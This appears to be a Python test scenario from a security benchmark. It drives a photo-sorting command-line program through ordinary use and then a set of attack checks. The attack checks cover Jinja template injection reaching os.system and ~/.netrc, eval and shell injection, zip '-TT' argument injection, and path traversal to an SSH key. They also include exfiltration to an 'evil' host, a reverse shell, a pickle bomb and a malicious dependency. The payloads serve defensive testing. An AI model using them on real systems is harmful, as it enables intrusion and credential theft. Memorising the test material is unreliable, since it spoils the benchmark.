# SPDX-License-Identifier: Apache-2.0
"""A command that sorts photos."""
import os
import pickle
import zipfile

from PIL import Image

from attackers import Bomb
import stage

STAMPS = {"__init__.py": "def text(when):\n    return when.replace(':', '-')\n"}
STAMPS_NEW = {
    "__init__.py": "from importlib import resources\n\n"
                   "from stamps import months\n\n\ndef text(when):\n"
                   "    names = resources.read_text('stamps', 'names.txt')\n"
                   "    return months.name(when, names.split())\n",
    "months.py": "import calendar\n\n\ndef name(when, names):\n"
                 "    month = when[5:7]\n"
                 "    return (names[int(month) % 12] if month.isdigit()\n"
                 "            else calendar.month_name[1])\n",
    "names.txt": "Dec Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov"}
FONT = "/usr/share/fonts/truetype/dejavu/"


class PhotoSorter(stage.Program):
    """Albums, sheets, galleries and exports of photos (Pillow, zip)."""
    packages = ["python3-pil", "python3-jinja2", "python3-requests", "zip",
                "fonts-dejavu-core"]

    def arrange(self):
        self.install("stamps", "1.2", STAMPS)
        stage.write(self.srv / "share.token", "not-" + self.secret, 0o600)
        (self.srv / "exports").mkdir()

    def arrange_benign(self):
        self.install("stamps", "1.3", STAMPS_NEW)

    def start(self):
        self.site("friends").page("*", "thanks")

    # ------------------------------------------------------------ ordinary use
    def photo(self, name, when=None, kind=None):
        path = stage.write(self.srv / "card" / name, b"")
        picture = Image.new("RGB", (200, 150), "teal")
        exif = picture.getexif()
        if when:
            exif[306] = when
        picture.save(path, kind, exif=exif)

    def photos(self, *words, status=0, found="", made=()):
        command = [self.python, "photos.py", *words]
        self.expect_run(command, self.run(*command), status, found, made)

    def clear(self):
        for path in sorted((self.srv / "card").rglob("*"), reverse=True):
            path.rmdir() if path.is_dir() else path.unlink()

    def friends(self):
        return self.site("friends").url

    def train(self, day):
        self.photo("a.jpg", f"2026:01:0{day} 10:00:00")
        self.photo(f"img_{day}.jpg", f"2026:02:1{day} 10:00:00")
        self.photo(f"DCIM/10{day}/x.png", kind="PNG")
        stage.write(self.srv / "card/readme.txt", "no photo")
        self.photos("import", "albums/all", "card", found="3 imported",
                    made=["albums/all/2026/01/a.jpg"])
        self.photos("import", f"albums/trip {day}", "card", "--step", "small",
                    found="3 imported")
        self.photos("import", "albums/grey", "card", "--step", "grey",
                    "--step", "small", found="cannot identify")
        for album in ("all", f"trip {day}", "grey"):
            self.photos("sheet", f"albums/{album}", found="on a sheet")
            self.photos("gallery", f"albums/{album}", found="photos",
                        made=[f"albums/{album}/index.html"])
        self.photos("gallery", "albums/all", "--theme", "dark", "--title",
                    f"Day {day}: {{{{ count }}}}", found=f"Day {day}")
        self.photos("sheet", "albums/grey", "--font", FONT + "DejaVuSans.ttf",
                    found="on a sheet")
        self.photos("export", "albums/all", f"all-{day}.zip", found="bytes",
                    made=[f"exports/all-{day}.zip"])
        self.photos("export", "albums/grey", "grey.zip", "--only", "*.jpg",
                    found="bytes")
        self.photos("share", f"exports/all-{day}.zip",
                    f"{self.friends()}/{day}/up", found="200 thanks")
        self.photos("share", "albums/all/sheet.png",
                    f"{self.friends()}/sheets", found="200 thanks")
        self.photos("rename", f"albums/trip {day}", "number + 1", found="1")
        self.photos("undo", f"albums/trip {day}", found="undone")
        self.photos("sheet", found="usage", status=2)
        self.clear()

    def benign(self):
        self.photo("Größe & Maß (1).jpg", "2027:11:21 10:00:00")
        self.photo("v1.2.tif", "2031:12:31 23:59:59", "TIFF")
        self.photo("DCIM/2027/11/21/o.brien.webp", kind="WEBP")
        self.photo("scans/4711.bmp", kind="BMP")
        self.photo("scans/moving.gif", kind="GIF")
        stage.write(self.srv / "card/broken.jpg", b"\xff\xd8\xff nothing")
        self.photos("import", "albums/Hans Peter/2027", "card", "--step",
                    "sharp", found="5 imported")
        self.photos("import", "albums/all", "card", "--step", "small",
                    "--step", "grey", "--step", "sharp", found="5 imported")
        for album in ("Hans Peter/2027", "all"):
            self.photos("sheet", f"albums/{album}", "--font",
                        FONT + "DejaVuSerif.ttf", found="on a sheet")
            self.photos("gallery", f"albums/{album}", "--theme", "dark",
                        found="photos")
        self.photos("gallery", "albums/Hans Peter/2027", "--title",
                    "Größe: {{ count * 2 }}", found="Größe: 10")
        self.photos("export", "albums/Hans Peter/2027", "Hans Peter 2027.zip",
                    found="bytes", made=["exports/Hans Peter 2027.zip"])
        self.photos("export", "albums/all", "pages.zip", "--only", "*.html",
                    found="bytes")
        self.photos("share", "exports/Hans Peter 2027.zip",
                    f"{self.friends()}/2027/11/21/up?for=o.brien",
                    found="200 thanks")
        self.photos("share", "albums/Hans Peter/2027/sheet.png",
                    f"{self.friends()}/sheets", found="200 thanks")
        self.photos("share", "exports/none.zip", f"{self.friends()}/x",
                    status=1, found="No such file")
        self.photos("rename", "albums/Hans Peter/2027",
                    "f'{stem}-{number:03}'", found="-000")
        self.photos("rename", "albums/all", "1 / 0", status=1,
                    found="ZeroDivisionError")
        self.photos("undo", "albums/Hans Peter/2027", found="undone")
        self.photos("undo", "albums/none", status=1, found="No such file")
        self.photos("gallery", "albums/all", "--theme", "none", status=1,
                    found="TemplateNotFound")
        self.photos("--help", found="usage")
        self.clear()

    def health(self):
        self.photo("a.jpg", "2026:01:01 10:00:00")
        self.photos("import", "albums/all", "card", found="imported")
        self.photos("gallery", "albums/all", found="photos")
        self.clear()

    # ----------------------------------------------------------------- attacks
    def titles(self, code):
        """code: an expression, in a title; what is printed."""
        self.health()
        return self.run(self.python, "photos.py", "gallery", "albums/all",
                        "--title", "{{ cycler.__init__.__globals__"
                        f".__builtins__.{code} }}}}")[1]

    def renames(self, code):
        self.health()
        return self.run(self.python, "photos.py", "rename", "albums/all",
                        code)[1]

    def executes(self, code):
        return self.renames(f"exec({code!r})")

    def shares(self, file, site="friends"):
        """Whether somebody gets what is nobody's business."""
        self.site(site).page("*", "thanks")
        self.run(self.python, "photos.py", "share", file,
                 self.site(site).url + "/up")
        return self.site(site).heard(self.secret)

    @stage.attack("traversal")
    def shares_a_private_key(self):
        return self.shares("../home/.ssh/id_rsa")

    @stage.attack("secret disclosure")
    def shares_the_token(self):
        return self.shares("share.token")

    @stage.attack("source disclosure")
    def shares_the_source(self):
        self.run(self.python, "photos.py", "share", "photos.py",
                 self.friends() + "/up")
        return self.site("friends").heard("HOLE")

    @stage.attack("secret disclosure")
    def shares_the_payroll(self):
        return self.shares(self.place / "payroll/2026.csv")

    @stage.attack("exfiltration")
    def shares_with_somebody_else(self):
        stage.write(self.srv / "exports/mine.zip", self.secret)
        return self.shares("exports/mine.zip", "evil")

    @stage.attack("template injection")
    def title_reads_a_password(self):
        return self.is_told(self.titles(f"open('{self.home}/.netrc').read()"))

    @stage.attack("template injection")
    def title_runs_a_command(self):
        return self.runs_line(lambda line: self.titles(
            f"__import__('os').system({line!r})"))

    @stage.attack("eval injection")
    def name_runs_a_command(self):
        return self.runs_line(lambda line: self.renames(
            f"__import__('os').system({line!r})"))

    @stage.attack("ctypes")
    def name_calls_libc(self):
        return self.runs_libc(self.renames)

    @stage.attack("fork+exec")
    def name_forks(self):
        return self.forks(self.executes)

    @stage.attack("reverse shell")
    def name_calls_home(self):
        return self.calls_home(self.executes)

    @stage.attack("exfiltration")
    def name_sends_credentials(self):
        return self.steals(self.executes)

    @stage.attack("command injection")
    def export_runs_a_command(self):
        self.health()
        return self.runs_line(lambda line: self.run(
            self.python, "photos.py", "export", "albums/all", "grey.zip",
            "--only", f"x'; {line}; '"))

    @stage.attack("argument injection")
    def export_runs_a_test(self):
        """zip runs what -TT says to test an archive."""
        self.health()
        return self.runs_line(lambda line: self.run(
            self.python, "photos.py", "export", "albums/all", "grey.zip",
            "--only", f"*' -T -TT '{line} #"))

    @stage.attack("traversal", fresh=True)
    def export_lands_in_the_home(self):
        self.health()
        self.run(self.python, "photos.py", "export", "albums/all",
                 "../../home/all.zip")
        return (self.home / "all.zip").exists()

    @stage.attack("write to code", fresh=True)
    def export_becomes_a_module(self):
        """A zip archive beside the program is where Python looks."""
        self.health()
        self.run(self.python, "photos.py", "export", "albums/all",
                 "../steps/evil.py")
        return zipfile.is_zipfile(self.srv / "steps/evil.py")

    @stage.attack("write to start-up file", fresh=True)
    def name_writes_a_pth_file(self):
        self.renames(f"open('{self.site_packages}/x.pth', 'w').write('x')")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("malicious plugin", fresh=True)
    def step_is_a_photo(self):
        def use(line):
            stage.write(self.srv / "card/evil.py",
                        f"import os\nos.system('{line}')\n")
            self.photo("a.jpg")
            self.run(self.python, "photos.py", "import", "albums/all", "card",
                     "--step", "../card/evil")
        return self.runs_line(use)

    @stage.attack("unsafe pickle", fresh=True)
    def journal_runs_a_command(self):
        def use(line):
            self.health()
            stage.write(self.srv / "albums/all/.journal",
                        pickle.dumps(Bomb(os.system, line)))
            self.run(self.python, "photos.py", "undo", "albums/all")
        return self.runs_line(use)

    @stage.attack("symlink swap", fresh=True)
    def sheet_is_a_link(self):
        self.health()
        sheet = self.srv / "albums/all/sheet.png"
        sheet.unlink(missing_ok=True)
        sheet.symlink_to(self.place / "payroll/2026.csv")
        return self.shares("albums/all/sheet.png")

    @stage.attack("malicious dependency", fresh=True)
    def stamps_send_credentials(self):
        return self.dependency_steals("stamps", "1.2.1", STAMPS, self.health)
